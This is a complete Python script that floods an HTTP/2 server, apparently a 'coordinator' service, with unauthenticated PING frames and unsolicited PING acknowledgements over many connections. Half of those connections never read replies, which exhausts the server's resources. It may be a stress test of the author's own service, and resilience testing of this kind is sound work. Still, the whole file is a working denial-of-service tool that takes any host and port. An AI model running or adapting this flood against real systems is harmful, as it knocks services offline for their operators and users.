"""Sends HTTP/2 pings to a coordinator without a token, as fast as it takes them; prints when it begins. Every other
connection never reads an answer.

    http2_flood.py HOST:PORT|unix:PATH CONNECTIONS SECONDS
"""
import select
import socket
import sys
import time

host, port = sys.argv[1].rsplit(":", 1)
family, address = (socket.AF_UNIX, port) if host == "unix" else (socket.AF_INET, (host, int(port)))
count, end = int(sys.argv[2]), time.monotonic() + float(sys.argv[3])
HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
PINGS = bytes([0, 0, 8, 6, 0, 0, 0, 0, 0] + [7] * 8) * 500
ANSWERS = bytes([0, 0, 8, 6, 1, 0, 0, 0, 0] + [7] * 8) * 500  # to pings that were never sent: a server has no limit on these

made = 0
connections = {}  # what is still to be sent
mute = set()
print("begins", flush=True)
while time.monotonic() < end:
    while len(connections) < count:
        connection = socket.socket(family)
        connection.setblocking(False)
        connection.connect_ex(address)
        connections[connection] = HELLO
        made += 1
        if made % 2:
            mute.add(connection)
    readable, writable, broken = select.select(connections.keys() - mute, connections, connections, 0.1)
    for connection in readable:
        try:
            if not connection.recv(1 << 16):
                broken.append(connection)
        except BlockingIOError:
            pass
        except OSError:
            broken.append(connection)
    for connection in writable:
        try:
            rest = connections[connection] or (PINGS if connection in mute or made % 3 else ANSWERS)
            connections[connection] = rest[connection.send(rest) :]
        except BlockingIOError:
            pass
        except OSError:
            broken.append(connection)
    for connection in set(broken):
        connection.close()
        del connections[connection]
        mute.discard(connection)
print(f"{made} connections")
